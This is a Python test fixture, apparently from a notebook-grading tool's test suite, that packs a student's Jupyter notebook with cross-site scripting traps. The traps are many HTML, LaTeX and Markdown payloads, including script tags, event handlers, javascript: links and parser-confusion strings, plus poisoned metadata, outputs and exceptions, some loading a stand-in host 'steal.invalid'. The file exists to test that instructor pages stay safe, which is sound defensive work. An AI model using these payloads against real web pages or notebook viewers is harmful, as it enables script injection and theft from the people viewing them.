# ruff: noqa: E501 - a trap reads best on one line
"""What a student may write so that it runs, loads or covers something where an instructor looks at it.

Each place has a number, so that a page which runs something says which place it was. `http://steal.invalid` is asked
for nothing, if the pages are as they should be.
"""

import base64

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

from tests.grading_class import find

# Quotes that HTML texts and attributes have of their own are avoided; @N@ is the number of the place.
RUN = "window.ran=(window.ran||[]).concat(@N@)"
URL = "http://steal.invalid/@N@"

HTML = (
    f"<script>{RUN}</script>",
    f"<script src='{URL}'></script>",
    f"<img src=x onerror='{RUN}'>",
    f"<img src='{URL}'><img srcset='{URL} 2x'><picture><source srcset='{URL}'></picture>",
    f"<svg onload='{RUN}'><script>{RUN}</script><animate onbegin='{RUN}' attributeName=x /></svg>",
    f"<svg><foreignObject><body onload='{RUN}'></body></foreignObject><image href='{URL}' /></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={RUN}></svg>#x' /></svg>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe><iframe src='javascript:parent.{RUN}'></iframe>",
    f"<iframe src='{URL}'></iframe><embed src='{URL}'><object data='{URL}'></object><frame src='{URL}'>",
    f"<details ontoggle='{RUN}' open>x</details><marquee onstart='{RUN}'>x</marquee>",
    f"<input autofocus onfocus='{RUN}'><select autofocus onfocus='{RUN}'></select><b tabindex=1 autofocus onfocus='{RUN}'>",
    f"<video poster='{URL}' src='{URL}' onerror='{RUN}'></video><audio src='{URL}' autoplay></audio>",
    f"<link rel=stylesheet href='{URL}'><link rel=prefetch href='{URL}'><base href='{URL}/'>",
    f"<meta http-equiv=refresh content='0;url={URL}'>",
    f"<style>@import '{URL}'; body {{ background: url({URL}) }}</style>",
    f"<div style='background: url({URL}); background-image: url({URL}); position: fixed; inset: 0'>cover</div>",
    f"<div style=\"color: red; font-family: x; content: url('{URL}')\">x</div>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<textarea><img title='</textarea><img src=x onerror={RUN}>'></textarea><title></title><img src=x onerror={RUN}>",
    f"<template><img src=x onerror='{RUN}'></template><xmp><img src=x onerror='{RUN}'></xmp><plaintext>",
    f"</div></div></main></body></html><script>{RUN}</script>",
    f"--><!--><script>{RUN}</script><![CDATA[<script>{RUN}</script>]]><?xml <script>{RUN}</script>?>",
    f"<form id=submit action='{URL}'><button autofocus>x</button></form><a href='javascript:{RUN}'>javascript link</a>",
    f"<a href='&#106;avascript:{RUN}'>x</a><a href=' java\tscript:{RUN}'>x</a><a href='data:text/html,<script>x</script>'>x</a>",
    f"<a href='vbscript:{RUN}'>x</a><a href='JaVaScRiPt:{RUN}'>x</a><area href='javascript:{RUN}'>",
    f"<img src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload={RUN}></svg>'>",
    f"<img alt='`' src='data:image/png;base64,AAAA' title='\"><script>{RUN}</script>' style='x:expression({RUN})'>",
    f"<script type='text/x-mathjax-config'>{RUN}</script><script type=module>{RUN}</script>",
    f'<script type=\'application/vnd.jupyter.widget-view+json\'>{{"model_id": "{URL}"}}</script>',
    f"<script type='math/tex'>\\href{{javascript:{RUN}}}{{x}}</script>",
)
LATEX = (
    rf"$\href{{javascript:{RUN}}}{{\text{{javascript link}}}}$",
    rf"$$\html{{<img src=x onerror={RUN}>}}\htmlData{{x={RUN}}}{{x}}\cssId{{submit}}{{x}}\class{{navbar}}{{x}}$$",
    rf"$\style{{position:fixed;background:url({URL})}}{{x}}\require{{html}}\includegraphics{{{URL}}}$",
    rf"$\text{{<img src=x onerror={RUN}>}}$ and $</script><script>{RUN}</script>$",
    rf"\begin{{equation}}\unicode[x' onmouseover='{RUN}]{{x41}}\data{{x}}\end{{equation}}",
    rf"\( \def\href{{\href}} \let\x=\href \x{{javascript:{RUN}}}{{x}} \) \[ \csname href\endcsname{{javascript:{RUN}}}{{x}} \]",
)
MARKDOWN = (
    f"[javascript link](javascript:{RUN}) ![x]({URL}) [x][1] <javascript:{RUN}>\n\n[1]: javascript:{RUN}",
    f'![x](attachment:evil.svg) ![" onerror="{RUN}](attachment:a.png) ![x](x "\' onerror=\'{RUN}")',
    f'```html" onmouseover="{RUN}\n<script>{RUN}</script>\n```\n\n``<script>{RUN}</script>``',
    f"# <img src=x onerror='{RUN}'>\n\n| <script>{RUN}</script> | b |\n|---|---|\n| <svg onload='{RUN}'> | b |",
)


def numbered(texts: tuple[str, ...], start: int) -> list[str]:
    """Put the number of its place into each text."""
    return [text.replace("@N@", str(start + number)) for number, text in enumerate(texts)]


SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><script>{RUN}</script><image href='{URL}'/></svg>"
QUOTE = f'AAAA" onerror="{RUN}" x="'

# Cells that run in the student's part. Nothing of them may run, or load, in a page.
DISPLAYS = """
import json
from IPython.display import display
for text in HTML:
    display({"text/html": text, "text/plain": text}, raw=True)
    display({"text/html": text, "text/plain": ""}, raw=True, metadata={"text/html": {"isolated": True}})
for text in LATEX:
    display({"text/latex": text, "text/plain": text}, raw=True)
    display({"text/html": text, "text/markdown": text}, raw=True)
for text in MARKDOWN:
    display({"text/markdown": text, "text/plain": text}, raw=True)
for kind in ("application/javascript", "text/javascript", "application/x-javascript", "text/vnd.mermaid"):
    display({kind: RUN}, raw=True)
for kind in ("image/png", "image/jpeg", "image/gif", "image/webp", "application/pdf"):
    display({kind: QUOTE, "text/plain": ""}, raw=True, metadata={kind: {"width": QUOTE, "alt": QUOTE}, "filenames": {kind: URL}})
    display({kind: "AAAA"}, raw=True, metadata={kind: {"width": 1, "height": 1e308, "unconfined": QUOTE, "needs_background": QUOTE}})
display({"image/svg+xml": SVG}, raw=True, metadata={"filenames": {"image/svg+xml": URL}})
display({"image/svg+xml": "<script>" + RUN + "</script>"}, raw=True)
display({"application/vnd.jupyter.widget-view+json": {"model_id": QUOTE, "version_major": 2}, "text/html": HTML[0]}, raw=True)
display({"application/vnd.jupyter.widget-state+json": {"state": {"x": HTML[0]}}}, raw=True)
display({"application/json": {"x": HTML[0]}, "application/geo+json": {"x": URL}, "text/vnd.graphviz": HTML[0]}, raw=True)
display({"application/vnd.vega.v5+json": {"data": {"url": URL}}, "application/vnd.plotly.v1+json": {"x": HTML[0]}}, raw=True)
display({"text/html": [HTML[0]], "text/plain": [HTML[0]]}, raw=True)
for text in HTML:
    print(text)
    print("\\x1b[31m" + text + "\\x1b]8;;javascript:" + RUN + "\\x1b\\\\\\\\link\\x1b]8;;\\x1b\\\\\\\\\\x1b[38;5;1';" + RUN + "m")
"""
ERROR = """
class Evil(Exception):
    def _render_traceback_(self):
        return HTML + MARKDOWN
    def __str__(self):
        return "".join(HTML)
Evil.__name__ = Evil.__qualname__ = HTML[2]
raise Evil
"""


def cover_with_traps(notebook: NotebookNode) -> None:
    """Put everything into a notebook that is handed in: outputs, errors, texts, metadata, attachments."""
    html, latex, markdown = numbered(HTML, 100), numbered(LATEX, 200), numbered(MARKDOWN, 300)
    numbers = {"RUN": 400, "SVG": 401, "QUOTE": 402, "URL": 403}
    texts = {"RUN": RUN, "SVG": SVG, "QUOTE": QUOTE, "URL": URL}
    start = f"HTML, LATEX, MARKDOWN = {html!r}, {latex!r}, {markdown!r}\n"
    start += "\n".join(f"{name} = {text.replace('@N@', str(numbers[name]))!r}" for name, text in texts.items())
    everything = "\n\n".join([*numbered(MARKDOWN, 500), *numbered(LATEX, 520), *numbered(HTML, 540)])
    svg = base64.b64encode(SVG.replace("@N@", "600").encode()).decode()
    attached = {"evil.svg": {"image/svg+xml": svg}, "a.png": {"image/png": QUOTE.replace("@N@", "601")}}
    raw = HTML[0].replace("@N@", "700")
    evil = QUOTE.replace("@N@", "800")
    notebook.cells[1:1] = [
        new_code_cell(start + DISPLAYS, id="traps-1"),
        new_code_cell(start + ERROR, id="traps-2"),
        new_markdown_cell(everything, id="traps-3", attachments=attached),
        *(new_raw_cell(raw, id=f"traps-raw-{number}") for number in range(3)),
        new_code_cell(raw, id="traps-4"),
        *(new_markdown_cell(text, id=f"traps-text-{number}") for number, text in enumerate(numbered(MARKDOWN, 900))),
        *(new_markdown_cell(text, id=f"traps-latex-{number}") for number, text in enumerate(numbered(LATEX, 920))),
        *(new_markdown_cell(text, id=f"traps-html-{number}") for number, text in enumerate(numbered(HTML, 940))),
    ]
    for number, kind in enumerate(("text/html", "TEXT/HTML", "")):
        notebook.cells[5 + number - 1].metadata.update(raw_mimetype=kind, format=kind)
    # What the format of notebooks forbids is handed in all the same.
    notebook.cells[7].metadata.update(tags=[evil], slideshow={"slide_type": evil}, name=evil, id=evil)
    notebook.cells[7].metadata.update(jupyter={"source_hidden": evil}, collapsed=evil, scrolled=evil)
    for name in ("title", "authors", "widgets", "celltoolbar", "css"):
        notebook.metadata[name] = evil
    notebook.metadata.language_info = {
        "name": "python",
        "pygments_lexer": evil,
        "codemirror_mode": evil,
        "mimetype": evil,
    }
    notebook.metadata.kernelspec = {"name": evil, "display_name": evil, "language": evil}
    find(notebook, "why").source = everything
    find(notebook, "why").attachments = attached
    find(
        notebook, "double-answer"
    ).source = f"def double(x):\n    raise type({html[2]!r}, (AssertionError,), {{}})({html[0]!r})"
    find(notebook, "square-answer").source = f"def square(x):\n    print({html[0]!r})\n    return {html[1]!r}"
